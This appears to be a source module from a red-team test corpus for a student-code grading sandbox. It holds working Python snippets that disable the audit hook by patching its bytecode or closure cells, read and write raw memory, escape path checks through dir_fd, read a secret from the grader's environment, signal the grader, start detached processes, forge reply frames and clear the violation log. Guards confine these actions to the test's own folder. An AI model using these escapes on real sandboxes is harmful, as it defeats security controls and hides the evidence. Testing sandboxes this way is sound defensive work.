"""Source snippets of the kernel-sandbox red-team corpus (pasted into the attack modules by build.py).

Every attack submission must be self-contained (a student's files import numpy and each other
only), so these strings are copied into each attacked module, between ``# >>> attack`` and
``# <<< attack`` marker lines.  Nothing here runs in the test process.

Safety, for every destructive action (the RT-CONFIG guard):

- ``RT`` is rewritten for every run by ``tests/support/redteam.py``; graded by hand, its
  ``root`` is empty and nothing is written, signalled, filled or tampered with;
- a file is written or created only when its absolute path lies under ``RT["root"]``, the
  per-test folder that holds the run's sentinels, TMPDIR and the grader's working directory;
- a process is signalled only when its ``/proc/<pid>/cwd`` is the run's own grader or dummy
  folder (a unique folder under ``RT["root"]``);
- classmates' sandboxes are touched only under ``RT["tmp"]`` (the run's own TMPDIR, under the
  root), and only those that are not red-team submissions (no ``RT-CONFIG`` line);
- survivors are ``/bin/sleep`` (or a Python loop) with a recognisable argv, killed by the
  test's subreaper.
"""

# The report channel: the attack runs once, on the grader's first direct call of the attacked
# function, and its evidence goes out in that call's error message, which the report shows.
REPORT = r'''
_RT_DONE = []


def _rt_root_ok(path):
    """True when ``path`` lies under the run's own folder RT["root"] (the RT-CONFIG guard)."""
    import os
    root = str(RT.get("root") or "")
    if len(root) < 5 or not root.startswith("/"):
        return False
    return os.path.abspath(str(path)).startswith(root.rstrip("/") + "/")


def _rt_clear_violations():
    """Empty the policy's violation list (Server.violations): it is reachable from any frame."""
    import sys
    try:
        f = sys._getframe(1)
    except BaseException:  # noqa: BLE001
        return
    while f is not None:
        try:
            owner = f.f_locals.get("self")
            found = getattr(owner, "violations", None) if owner is not None else None
            if type(found) is list:
                del found[:]
        except BaseException:  # noqa: BLE001
            pass
        f = f.f_back


def _rt_report():
    """Run the escape, then fail this call with its evidence (the report shows the message)."""
    try:
        evidence = _rt_escape()
    except BaseException as exc:  # noqa: BLE001
        evidence = "the escape failed: %s: %s" % (type(exc).__name__, exc)
    _rt_clear_violations()
    raise RuntimeError(("RTLEAK[%s] " % RT["name"]) + str(evidence)[:900])


def _rt_direct_call():
    """True once per process: on the first call made by the grader (not by grad_check_sparse)."""
    import sys
    if _RT_DONE:
        return False
    try:
        if sys._getframe(2).f_code.co_filename == __file__:
            return False
    except BaseException:  # noqa: BLE001
        pass
    _RT_DONE.append(1)
    return True
'''

TRIGGER = "if _rt_direct_call():  # ATTACK: see _rt_escape above\n    _rt_report()\n"

# What an escaped process does with the grader's uid.  Source text, so that it can run in the
# student process (hook off), in a helper program started outside the hook, or in a
# subinterpreter.  Every action targets only this run's own sentinels, listeners, dummy and
# grader (identified by its unique working directory).
BATTERY = r'''
def battery(rt, grader_pid, survivor=True, spawn=None, files=True):
    import hashlib
    import os
    import signal
    import socket
    import time
    ev = []
    root = str(rt.get("root") or "")
    S = str(rt.get("sentinel") or "")
    line = ("RTNET %s %s\n" % (rt["name"], rt["tag"])).encode()

    def inside(path):
        return len(root) > 4 and root.startswith("/") and os.path.abspath(path).startswith(root.rstrip("/") + "/")

    def step(key, fn):
        try:
            got = fn()
            ev.append(key + "=" + (got if isinstance(got, str) else "ok"))
        except BaseException as exc:  # noqa: BLE001
            ev.append(key + ":FAILED(" + type(exc).__name__ + ": " + str(exc)[:60] + ")")

    def read_secret():
        with open(S + "/secret.txt") as fh:
            return fh.read().strip()

    def grader_env():
        with open("/proc/%d/environ" % int(grader_pid), "rb") as fh:
            for item in fh.read().split(b"\0"):
                if item.startswith(b"LINCLASS_RT_GRADER_SECRET="):
                    return item.partition(b"=")[2].decode()
        return "not in the grader's environment"

    def read_solution():
        with open(rt["solutions"] + "/softmax.py", "rb") as fh:
            return hashlib.sha256(fh.read()).hexdigest()

    def write_victim():
        target = S + "/victim.txt"
        if not inside(target):
            raise RuntimeError("not armed")
        with open(target, "w") as fh:
            fh.write("PWNED by %s %s\n" % (rt["name"], rt["tag"]))

    def new_file():
        target = "%s/new-%s-%s.txt" % (S, rt["name"], rt["tag"])
        if not inside(target):
            raise RuntimeError("not armed")
        with open(target, "x") as fh:
            fh.write("created from inside the sandbox\n")

    def tcp():
        s = socket.create_connection(("127.0.0.1", int(rt["tcp"])), timeout=2)
        try:
            s.sendall(line)
        finally:
            s.close()

    def udp():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            s.sendto(line, ("127.0.0.1", int(rt["udp"])))
        finally:
            s.close()

    def unix():
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(2)
        try:
            s.connect("\0" + str(rt["unix"]))
            s.sendall(line)
        finally:
            s.close()

    def ours(pid, cwd):
        return pid > 1 and bool(cwd) and inside(cwd) and os.readlink("/proc/%d/cwd" % pid) == cwd

    def dummy():
        # The dummy lives as long as the run, so its pid cannot be reused: when /proc hides it (the check
        # cannot be made), it is still signalled, to see whether signals cross the sandbox.
        pid = int(rt.get("dummy") or 0)
        try:
            if not ours(pid, rt.get("dummy_cwd")):
                raise RuntimeError("pid %d is not the dummy" % pid)
        except OSError:
            if pid <= 1 or not inside(str(rt.get("dummy_cwd") or "")):
                raise
        os.kill(pid, signal.SIGUSR1)

    def grader():
        pid = int(grader_pid)
        if not ours(pid, rt.get("grader_cwd")):
            raise RuntimeError("the grader (pid %d) is not visible" % pid)
        os.kill(pid, signal.SIGSTOP)
        time.sleep(0.4)
        os.kill(pid, signal.SIGCONT)
        return "stopped:%d" % pid

    def start_survivor():
        # double fork + setsid + exec with an EMPTY environment: no LINCLASS_SANDBOX marker,
        # another session and process group, parent gone: the grader's sweep cannot see it.
        if not inside(S + "/x"):
            raise RuntimeError("not armed")
        argv = ["redteam-survivor-%s-%s" % (rt["name"], rt["tag"]), "60"]
        if spawn is not None:
            return spawn(argv)
        pid = os.fork()
        if pid == 0:
            try:
                os.setsid()
                if os.fork() == 0:
                    fd = os.open("/dev/null", os.O_RDWR)
                    for i in (0, 1, 2):
                        os.dup2(fd, i)
                    os.closerange(3, 4096)
                    os.execve("/bin/sleep", argv, {})
            finally:
                os._exit(0)
        os.waitpid(pid, 0)

    if files:
        step("secret", read_secret)
        step("graderenv", grader_env)
        step("solsha", read_solution)
        step("victim", write_victim)
        step("newfile", new_file)
    step("tcp", tcp)
    step("udp", udp)
    step("unix", unix)
    step("dummy", dummy)
    step("grader", grader)
    if survivor:
        step("survivor", start_survivor)
    return " ".join(ev)
'''

# Raw memory without ctypes: numpy builds an array on any address given in __array_interface__.
RAWMEM = r'''
class _RtRaw:
    def __init__(self, addr, n):
        self.__array_interface__ = {"data": (addr, False), "shape": (n,), "typestr": "|u1", "version": 3}


def _rt_mem(addr, n):
    """A writable uint8 view of n bytes at address addr (no audit event, no ctypes)."""
    return np.asarray(_RtRaw(addr, n))
'''

# Raw memory through ctypes, although the bootstrap forgot the ctypes modules: the classes of the
# never-unloaded _ctypes extension are reachable from object.__subclasses__(), and a union of a
# void pointer and a char pointer reads and writes any address (no import, no audit event).
CTYPES_MEM = r'''
def _rt_ctypes_classes():
    for base in object.__subclasses__():
        if base.__module__ == "_ctypes" and base.__name__ == "_CData":
            return {sub.__name__: sub for sub in base.__subclasses__()}
    return {}


class _RtCMem:
    def __init__(self, addr, n):
        c = _rt_ctypes_classes()
        char = type("_rt_char", (c["_SimpleCData"],), {"_type_": "c"})
        void_p = type("_rt_void_p", (c["_SimpleCData"],), {"_type_": "P"})
        char_p = type("_rt_char_p", (c["_Pointer"],), {"_type_": char})
        self._u = type("_rt_union", (c["Union"],), {"_fields_": [("a", void_p), ("p", char_p)]})()
        self._u.a, self._n = addr, n

    def __bytes__(self):
        return self._u.p[0:self._n]

    def __getitem__(self, i):
        return self._u.p[i][0]

    def __setitem__(self, where, values):
        for k, v in zip(range(*where.indices(self._n)), values):
            self._u.p[k] = bytes([v])


def _rt_mem(addr, n):
    # a read-write view of n bytes at address addr, through the _ctypes classes alone
    return _RtCMem(addr, n)
'''

# The hook's code patched to return at once (LOAD_CONST None; RETURN_VALUE after its prologue),
# through the _rt_mem of RAWMEM or CTYPES_MEM; needs FIND_POLICY.
PATCH_HOOK = r"""
def _rt_patch_hook():
    # None once the audit hook returns at once, or why it could not be patched
    import dis
    import types
    pol = _rt_policy_module()
    if pol is None:
        return "policy module not found"
    hook_code = None
    for c in pol.install.__code__.co_consts:
        if isinstance(c, types.CodeType) and c.co_name == "hook":
            hook_code = c
    if hook_code is None:
        return "no hook code object"

    def probe(a, b):
        return a + b

    pc = probe.__code__  # never run: its bytecode in memory equals co_code
    offset = bytes(_rt_mem(id(pc), pc.__sizeof__())).find(pc.co_code)
    if offset < 0:
        return "bytecode offset not found"
    op = dis.opmap
    raw = hook_code.co_code
    i = 0
    while raw[i] in (op["COPY_FREE_VARS"], op["MAKE_CELL"]):
        i += 2
    if raw[i] != op["RESUME"]:
        return "unexpected prologue"
    i += 2
    none_index = hook_code.co_consts.index(None)
    live = _rt_mem(id(hook_code) + offset, len(raw))
    if live[0] != raw[0]:
        return "the hook's bytecode is not where expected"
    live[i:i + 4] = [op["LOAD_CONST"], none_index, op["RETURN_VALUE"], 0]
    _rt_clear_violations()
    return None
"""

FIND_POLICY = r'''
def _rt_policy_module():
    import sys
    for m in list(sys.modules.values()):
        if getattr(m, "PolicyViolation", None) is not None and callable(getattr(m, "install", None)):
            return m
    return None
'''

# The route of hook_off_traceback, as a step of other attacks.
HOOK_OFF = r'''
def _rt_hook_off():
    """Switch the audit hook's denials off through the traceback of one denial; how many cells."""
    import os
    noop = lambda *a, **k: None  # noqa: E731
    try:
        os.listdir("/")
    except PermissionError as exc:
        tb = exc.__traceback__
    else:
        return 0
    hits = 0
    while tb is not None:
        for value in list(tb.tb_frame.f_locals.values()):
            code, cells = getattr(value, "__code__", None), getattr(value, "__closure__", None)
            if code is None or not cells:
                continue
            for name, cell in zip(code.co_freevars, cells):
                try:
                    if name == "deny" and cell.cell_contents is not noop:
                        cell.cell_contents = noop
                        hits += 1
                except ValueError:
                    pass
        tb = tb.tb_next
    _rt_clear_violations()
    return hits
'''

# A descriptor of "/" that the hook believes is inside the sandbox (route of path_dirfd).
DIRFD = r'''
def _rt_root_fd():
    """A descriptor of "/" the hook believes is the sandbox.

    The "open" audit event carries the path but NOT dir_fd, and the hook resolves relative
    paths against the cwd.  With the cwd k levels deep inside the sandbox, "../"*k relative to
    a descriptor of the sandbox itself is "/" to the kernel and "the sandbox" to the hook.
    """
    import os
    S = os.getcwd()
    depth = len([p for p in S.split("/") if p])
    deep = os.path.join(S, *(["rtdeep"] * depth))
    os.makedirs(deep, exist_ok=True)
    sandbox_fd = os.open(S, os.O_RDONLY | os.O_DIRECTORY)
    os.chdir(deep)
    try:
        return os.open("/".join([".."] * depth), os.O_RDONLY | os.O_DIRECTORY, dir_fd=sandbox_fd)
    finally:
        os.chdir(S)
        os.close(sandbox_fd)


def _rt_outside(path, flags, root, mode=0o644):
    """Open an absolute path relative to the root descriptor: the hook resolves it inside the sandbox."""
    import os
    return os.open(path.lstrip("/"), flags, mode, dir_fd=root)


def _rt_slurp(path, root):
    import os
    fd = _rt_outside(path, os.O_RDONLY, root)
    try:
        chunks = []
        while True:
            b = os.read(fd, 1 << 16)
            if not b:
                return b"".join(chunks)
            chunks.append(b)
    finally:
        os.close(fd)
'''

FILE_BATTERY = r'''
def _rt_file_battery(read, write, create):
    """read(path) -> bytes, write(path, bytes), create(path, bytes): outside-the-sandbox primitives."""
    import hashlib
    ev = []
    S = RT["sentinel"]

    def step(key, fn):
        try:
            got = fn()
            ev.append(key + "=" + (got if isinstance(got, str) else "ok"))
        except BaseException as exc:  # noqa: BLE001
            ev.append(key + ":FAILED(" + type(exc).__name__ + ": " + str(exc)[:60] + ")")

    def guarded(fn, path, data):
        if not _rt_root_ok(path):
            raise RuntimeError("not armed")
        return fn(path, data)

    step("secret", lambda: read(S + "/secret.txt").decode().strip())
    step("solsha", lambda: hashlib.sha256(read(RT["solutions"] + "/softmax.py")).hexdigest())
    step("victim", lambda: guarded(write, S + "/victim.txt", ("PWNED by %s %s\n" % (RT["name"], RT["tag"])).encode()))
    step("newfile", lambda: guarded(create, "%s/new-%s-%s.txt" % (S, RT["name"], RT["tag"]), b"from the sandbox\n"))
    return " ".join(ev)
'''

# The reply pipe's descriptor: the config in argv names it.
REPLY_FD = r'''
def _rt_reply_fd():
    import json
    import sys
    return int(json.loads(sys.argv[-1])["rep_fd"])


def _rt_wire():
    """The harness's wire module (loaded by file path as _linclass_wire)."""
    import sys
    return next((m for m in list(sys.modules.values()) if callable(getattr(m, "write_all", None))
                 and hasattr(m, "FrameReader")), None)


def _rt_send_instead(reply):
    """Write ``reply`` as this request's reply frame, and drop the harness's own next reply."""
    import os
    wire = _rt_wire()
    fd = _rt_reply_fd()
    data = wire.encode(reply)
    view = memoryview(data)
    while view:
        view = view[os.write(fd, view):]
    original = wire.write_all

    def swallow_once(target, payload):
        wire.write_all = original
        if target != fd:
            original(target, payload)

    wire.write_all = swallow_once
'''

# In a batch, the class-4 attacks keep their student process alive long enough to see the
# classmate that the other worker grades next (each unit may take up to call_seconds to load).
LINGER = r'''
if RT.get("batch") and RT.get("root"):
    import time as _rt_time_linger
    _rt_time_linger.sleep(float(RT.get("linger", 2.0)))
'''
